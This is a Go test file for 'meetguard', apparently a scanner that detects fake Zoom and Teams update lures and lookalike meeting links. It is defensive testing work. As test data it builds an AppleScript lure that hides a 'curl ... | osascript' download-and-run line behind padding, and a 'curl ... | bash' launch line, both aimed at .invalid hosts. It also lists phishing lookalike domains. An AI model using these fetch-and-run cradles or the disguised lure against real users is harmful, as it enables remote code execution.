//go:build unix

package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

// asMain makes the test program behave as meetguard itself, so that the tests
// start real processes without a build step.
const asMain = "MEETGUARD_TEST_AS_MAIN"

func TestMain(m *testing.M) {
	if len(os.Args) > 1 && os.Args[1] == workerCommand || os.Getenv(asMain) != "" {
		main()
	}
	os.Exit(m.Run())
}

type result struct {
	code        int
	out, errOut string
}

func command(t *testing.T, args ...string) result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, os.Args[0], args...)
	cmd.Env = append(os.Environ(), asMain+"=1")
	var out, errOut bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &errOut
	err := cmd.Run()
	var ee *exec.ExitError
	if err != nil && !errors.As(err, &ee) {
		t.Fatal(err)
	}
	return result{cmd.ProcessState.ExitCode(), out.String(), errOut.String()}
}

// lure is inert: its host does not exist and nothing runs it.
const lureHead = "-- Zoom SDK Update: your audio component is out of date.\n-- Press the Run button to update.\n"

func lure(mark string) string {
	return lureHead + strings.Repeat("\n", 90) + "-- " + mark + "\ndo shell script \"curl -fsSL https://zoom-sdk-update.invalid/" + mark + " | osascript\"\n"
}

func write(t *testing.T, path, content string) string {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestScanExitCodes(t *testing.T) {
	dir := t.TempDir()
	clean := write(t, filepath.Join(dir, "notes.txt"), "nothing to see\n")
	bad := write(t, filepath.Join(dir, "Zoom SDK Update.scpt"), lure("a"))
	cut := write(t, filepath.Join(dir, "cut.zip"), "PK\x03\x04 cut off")
	for name, tc := range map[string]struct {
		args []string
		code int
		want string // in the output or the error
	}{
		"clean":           {[]string{"scan", clean}, 0, "1 inspected"},
		"found":           {[]string{"scan", bad}, 1, "MALICIOUS"},
		"incomplete":      {[]string{"scan", cut}, 1, "INCOMPLETE"},
		"folder":          {[]string{"scan", dir}, 1, "Zoom SDK Update.scpt"},
		"rules off":       {[]string{"scan", "--without", "MG-NAME-DOUBLE-EXT", "--without", "MG-SCRIPT-CRADLE,MG-Y-0101", clean}, 0, "1 inspected"},
		"no such rule":    {[]string{"scan", "--without", "MG-SCRIPT-CRADEL", clean}, 2, "rules list"},
		"no such path":    {[]string{"scan", filepath.Join(dir, "none")}, 2, "check the path"},
		"bad flag":        {[]string{"scan", "--nope", clean}, 2, "unknown flag"},
		"no path":         {[]string{"scan"}, 2, "name a file or folder"},
		"unknown command": {[]string{"sacn"}, 2, "unknown command"},
		"bad config":      {[]string{"scan", "--config", write(t, filepath.Join(dir, "c.yaml"), "wacth: []\n"), clean}, 2, "wacth"},
		"broken rules":    {[]string{"scan", "--config", write(t, filepath.Join(dir, "r.yaml"), "rules: "+brokenRules(t)+"\n"), clean}, 2, "broken.yar:2"},
		"check clean":     {[]string{"check", "https://us02web.zoom.us/j/1?pwd=2"}, 0, "belongs to Zoom"},
		"check found":     {[]string{"check", "us02webzoom.us"}, 1, "malicious: us02webzoom.us does not belong to Zoom"},
		"check defanged":  {[]string{"check", "hxxps://zoom-tech[.]us/j/1"}, 1, "suspicious: zoom-tech.us"},
		"check pasted":    {[]string{"check", "Join Zoom Meeting: https://zoom.us/j/1 or www.zoom-meeting.invalid"}, 1, "www.zoom-meeting.invalid"},
		"check program":   {[]string{"check", "msteams:/l/meetup-join/19"}, 0, "opens Microsoft Teams"},
		"check nothing":   {[]string{"check", "no link\nin\x1b[2J here"}, 2, "neither a link nor a host"},
		"check with user": {[]string{"check", "https://zoom.us@zoom-meeting.invalid/"}, 1, "it goes to zoom-meeting.invalid"},
		"version":         {[]string{"version"}, 0, "meetguard "},
		"config":          {[]string{"config", "show"}, 0, "launches: auto"},
		"help":            {[]string{"--help"}, 0, "Exit codes"},
		"version as flag": {[]string{"--version"}, 0, "meetguard "},
	} {
		t.Run(name, func(t *testing.T) {
			r := command(t, tc.args...)
			if r.code != tc.code || !strings.Contains(r.out+r.errOut, tc.want) {
				t.Errorf("exit %d, want %d; want %q in:\n%s%s", r.code, tc.code, tc.want, r.out, r.errOut)
			}
			if tc.code == 2 && (strings.Count(r.errOut, "\n") != 1 || r.out != "") {
				t.Errorf("exit 2 should leave one line on stderr, has:\n%s---\n%s", r.errOut, r.out)
			}
		})
	}
}

func brokenRules(t *testing.T) string {
	dir := t.TempDir()
	write(t, filepath.Join(dir, "broken.yar"), "rule x {\n  condition: nonsense\n}\n")
	return dir
}

// TestScanJSON holds the shape that the contract promises, on hostile names.
func TestScanJSON(t *testing.T) {
	dir := t.TempDir()
	name := "Zoom\n\x1b[2J\u202eUpdate\xff.scpt"
	write(t, filepath.Join(dir, name), lure("b"))
	if err := syscall.Mkfifo(filepath.Join(dir, "pipe"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/passwd", filepath.Join(dir, "link.sh")); err != nil {
		t.Fatal(err)
	}
	r := command(t, "scan", "--json", dir)
	lines := strings.Split(strings.TrimSpace(r.out), "\n")
	if r.code != 1 || len(lines) != 1 {
		t.Fatalf("exit %d, %d lines; want 1 and one line for the one regular file:\n%s", r.code, len(lines), r.out)
	}
	var u map[string]any
	if err := json.Unmarshal([]byte(lines[0]), &u); err != nil {
		t.Fatal(err)
	}
	for _, key := range []string{"path", "path_b64", "sha256", "size", "format", "level", "brand", "score", "findings", "signature", "origin", "gaps"} {
		if _, ok := u[key]; !ok {
			t.Errorf("no %q", key)
		}
	}
	if u["level"] != "malicious" || u["brand"] != "zoom" || u["format"] != "script" {
		t.Errorf("level %v, brand %v, format %v", u["level"], u["brand"], u["format"])
	}
	if strings.ContainsAny(u["path"].(string), "\n\x1b\u202e") {
		t.Errorf("the path %q is not escaped", u["path"])
	}
	for _, special := range []string{"pipe", "link.sh"} {
		r := command(t, "scan", "--json", filepath.Join(dir, special))
		if r.code != 1 || !strings.Contains(r.out, `"level":"incomplete"`) {
			t.Errorf("%s named on the command line: exit %d, %s", special, r.code, r.out)
		}
	}
}

// daemon is a running agent.
type daemon struct {
	cmd   *exec.Cmd
	state string
	log   *lockedBuffer
}

type lockedBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *lockedBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// start starts an agent that sees files and no launches: those of a machine are
// everybody's.
func start(t *testing.T, state string, args ...string) *daemon {
	t.Helper()
	return startWith(t, []string{"MEETGUARD_LAUNCHES=off"}, state, args...)
}

// startWhole starts one that sees launches too, also those of others: see own.
func startWhole(t *testing.T, state string, args ...string) *daemon {
	t.Helper()
	return startWith(t, nil, state, args...)
}

func startWith(t *testing.T, env []string, state string, args ...string) *daemon {
	t.Helper()
	s := &daemon{cmd: exec.Command(os.Args[0], append([]string{"run", "--state", state}, args...)...), state: state, log: &lockedBuffer{}}
	s.cmd.Env = append(append(os.Environ(), asMain+"=1", "MEETGUARD_NOTIFY={enabled: false}"), env...) // what is found here is nobody's business
	s.cmd.Stderr = s.log
	if err := s.cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = s.cmd.Process.Kill(); _ = s.cmd.Wait() })
	until(t, "the agent says Watching", func() bool { return strings.Contains(s.log.String(), "msg=Watching") })
	return s
}

// stop ends the agent as a service manager does.
func (s *daemon) stop(t *testing.T) {
	t.Helper()
	if err := s.cmd.Process.Signal(syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	if err := s.cmd.Wait(); err != nil {
		t.Errorf("after SIGTERM: %v\n%s", err, s.log)
	}
}

// until waits for something that has to happen; how long it takes is no
// matter of these tests.
func until(t *testing.T, what string, ok func() bool) {
	t.Helper()
	for end := time.Now().Add(3 * time.Minute); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		if ok() {
			return
		}
	}
	t.Fatalf("did not happen: %s", what)
}

type record struct {
	Metadata  struct{ UID string } `json:"metadata"`
	Unmapped  map[string]any       `json:"unmapped"`
	Evidences []struct {
		Process struct {
			Ancestry []struct{ PID int } `json:"ancestry"`
		} `json:"process"`
	} `json:"evidences"`
}

// foreign says whether it is about a launch that is no descendant of this test.
func (r record) foreign() bool {
	if r.Unmapped["mg_pid"] == nil {
		return false // a file, and only those of the test's own folder are seen
	}
	for _, e := range r.Evidences {
		for _, up := range e.Process.Ancestry {
			if up.PID == os.Getpid() {
				return false
			}
		}
	}
	return true
}

// own are the alerts about the test's own files and launches.
func (s *daemon) own(t *testing.T) []record {
	t.Helper()
	return slices.DeleteFunc(s.alerts(t), record.foreign)
}

// arrived counts how often the collector has each of these alerts.
func arrived(t *testing.T, collector string, all []record) (once, twice int) {
	t.Helper()
	have := map[string]int{}
	for _, uid := range collected(t, collector) {
		have[uid]++
	}
	for _, r := range all {
		switch have[r.Metadata.UID] {
		case 0:
		case 1:
			once++
		default:
			twice++
		}
	}
	return once, twice
}

func (s *daemon) alerts(t *testing.T) []record {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(s.state, "alerts.jsonl"))
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	var out []record
	for _, line := range bytes.Split(bytes.TrimSpace(data), []byte("\n")) {
		var r record
		if len(line) > 0 && json.Unmarshal(line, &r) == nil {
			out = append(out, r)
		}
	}
	return out
}

func (s *daemon) counter(t *testing.T, name string) float64 {
	t.Helper()
	r := command(t, "status", "--json", "--state", s.state)
	var st struct{ Counters map[string]float64 }
	if err := json.Unmarshal([]byte(r.out), &st); err != nil {
		t.Fatalf("status: %v: %s%s", err, r.out, r.errOut)
	}
	return st.Counters[name]
}

func stateDir(t *testing.T) string {
	dir := filepath.Join(t.TempDir(), "state")
	if err := os.Mkdir(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestDownloadBecomesOneAlert is the main job: a lure that curl downloads and
// one that a browser renames into place, each one alert with its final path, in
// the log and at the collector; what lands beside them stays quiet.
func TestDownloadBecomesOneAlert(t *testing.T) {
	collector := startCollector(t)
	web := serve(t, map[string]string{"/first": lure("first"), "/notes": "plain text\n"})
	dir := t.TempDir()
	s := startWhole(t, stateDir(t), "--watch", dir, "--collector", collector)

	curl(t, web+"/first", filepath.Join(dir, "Zoom SDK Update.scpt"))
	curl(t, web+"/notes", filepath.Join(dir, "notes.txt"))
	browser(t, filepath.Join(dir, "MSTeams Update.scpt"), lure("second"))
	until(t, "two alerts", func() bool { return len(s.own(t)) >= 2 })
	until(t, "three files judged", func() bool { return s.counter(t, "files_judged") >= 3 })
	until(t, "two alerts at the collector", func() bool { once, _ := arrived(t, collector, s.own(t)); return once >= 2 })

	paths := map[string]int{}
	for _, a := range s.own(t) {
		paths[filepath.Base(a.Unmapped["mg_path"].(string))]++
	}
	if len(paths) != 2 || paths["Zoom SDK Update.scpt"] != 1 || paths["MSTeams Update.scpt"] != 1 {
		t.Errorf("alerts by path: %v", paths)
	}
	if once, twice := arrived(t, collector, s.own(t)); once != 2 || twice != 0 {
		t.Errorf("%d alerts once at the collector, %d twice", once, twice)
	}
	if r := command(t, "alerts", "verify", "--state", s.state); r.code != 0 {
		t.Errorf("the log's chain: exit %d, %s", r.code, r.out)
	}
	s.stop(t)
	if r := command(t, "status", "--state", s.state); r.code != 1 || !strings.Contains(r.out, "does not run") {
		t.Errorf("status of a stopped agent: exit %d, %s", r.code, r.out)
	}
}

func curl(t *testing.T, url, to string) {
	t.Helper()
	if out, err := exec.Command("curl", "-fsS", "--noproxy", "*", "-o", to, url).CombinedOutput(); err != nil {
		t.Fatalf("curl (install it, or run make deps): %v: %s", err, out)
	}
}

// browser writes slowly under a temporary name and renames, as Chrome does.
func browser(t *testing.T, path, content string) {
	t.Helper()
	tmp := filepath.Join(filepath.Dir(path), "Unconfirmed 1234.crdownload")
	f, err := os.Create(tmp)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < len(content); i += 40 {
		if _, err := io.WriteString(f, content[i:min(i+40, len(content))]); err != nil {
			t.Fatal(err)
		}
	}
	if err := errors.Join(f.Close(), os.Rename(tmp, path)); err != nil {
		t.Fatal(err)
	}
}

func serve(t *testing.T, pages map[string]string) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{ReadHeaderTimeout: time.Minute, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, pages[r.URL.Path])
	})}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	return "http://" + ln.Addr().String()
}

// TestWhatLandedWhileItWasDown: the next start finds it, and judges nothing twice.
func TestWhatLandedWhileItWasDown(t *testing.T) {
	dir, state := t.TempDir(), stateDir(t)
	s := start(t, state, "--watch", dir)
	write(t, filepath.Join(dir, "Zoom Update.scpt"), lure("one"))
	until(t, "the first alert", func() bool { return len(s.alerts(t)) == 1 })
	s.stop(t)
	write(t, filepath.Join(dir, "Teams Update.scpt"), lure("two"))
	s = start(t, state, "--watch", dir)
	until(t, "the second alert", func() bool { return len(s.alerts(t)) == 2 })
	until(t, "a status", func() bool { return s.counter(t, "files_judged") >= 1 })
	if n := s.counter(t, "files_judged"); n != 1 {
		t.Errorf("%v files judged after the restart, want the one that is new", n)
	}
	s.stop(t)
}

// TestCollectorOutage: a collector that is away or talks nonsense loses nothing.
func TestCollectorOutage(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	address := ln.Addr().String()
	nonsense := &http.Server{ReadHeaderTimeout: time.Minute, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.WriteString(w, "<html>captive portal</html>")
	})}
	go nonsense.Serve(ln)
	dir := t.TempDir()
	s := start(t, stateDir(t), "--watch", dir, "--collector", "http://"+address)
	write(t, filepath.Join(dir, "Zoom Update.scpt"), lure("outage"))
	until(t, "the alert waits in the log", func() bool { return len(s.alerts(t)) == 1 && strings.Contains(s.log.String(), "Could not deliver") })
	nonsense.Close()
	startCollectorAt(t, address)
	until(t, "the alert arrives", func() bool { return len(collected(t, "http://"+address)) == 1 })
	s.stop(t)
}

func TestNothingHalfStarted(t *testing.T) {
	dir := t.TempDir()
	state := stateDir(t)
	for name, args := range map[string][]string{
		"missing folder":   {"run", "--state", state, "--watch", filepath.Join(dir, "none")},
		"broken rules":     {"run", "--state", state, "--watch", dir, "--config", write(t, filepath.Join(t.TempDir(), "r.yaml"), "rules: "+brokenRules(t)+"\n")},
		"foreign http":     {"run", "--state", state, "--watch", dir, "--collector", "http://collector.example"},
		"state is a file":  {"run", "--state", write(t, filepath.Join(dir, "f"), ""), "--watch", dir},
		"bad config value": {"run", "--state", state, "--watch", dir, "--config", write(t, filepath.Join(t.TempDir(), "v.yaml"), "launches: maybe\n")},
	} {
		t.Run(name, func(t *testing.T) {
			r := command(t, args...)
			if r.code != 2 || strings.Count(r.errOut, "\n") != 1 || !strings.HasPrefix(r.errOut, "meetguard: ") {
				t.Errorf("exit %d, stderr:\n%s", r.code, r.errOut)
			}
		})
	}
}

func TestOneAgentPerState(t *testing.T) {
	dir, state := t.TempDir(), stateDir(t)
	s := start(t, state, "--watch", dir)
	if r := command(t, "run", "--state", state, "--watch", dir); r.code != 2 || !strings.Contains(r.errOut, "another agent") {
		t.Errorf("a second agent: exit %d, %s", r.code, r.errOut)
	}
	s.stop(t)
}

// TestLaunch: a command line that fetches and runs, under a lookalike's name.
// It is never executed: `true ||` comes before it.
func TestLaunch(t *testing.T) {
	dir := t.TempDir()
	s := startWhole(t, stateDir(t), "--watch", dir)
	degraded := strings.Contains(s.log.String(), "degraded")
	if degraded {
		t.Logf("REDUCED: launches are polled here (not root?), so the test launch lives longer")
	}
	line := "sleep 6; true || curl -fsSk https://zoom-sdk-fix.invalid/audio | bash"
	sh := exec.Command("sh", "-c", "bash -c '"+line+"' & wait")
	if err := sh.Run(); err != nil {
		t.Fatal(err)
	}
	until(t, "an alert for the launch", func() bool {
		for _, a := range s.own(t) {
			if a.Unmapped["mg_pid"] != nil && strings.Contains(strings.Join(reasons(a), " "), "zoom-sdk-fix.invalid") {
				return true
			}
		}
		return false
	})
	s.stop(t)
}

func reasons(r record) []string {
	var out []string
	list, _ := r.Unmapped["mg_reasons"].([]any)
	for _, x := range list {
		s, _ := x.(string)
		out = append(out, s)
	}
	return out
}
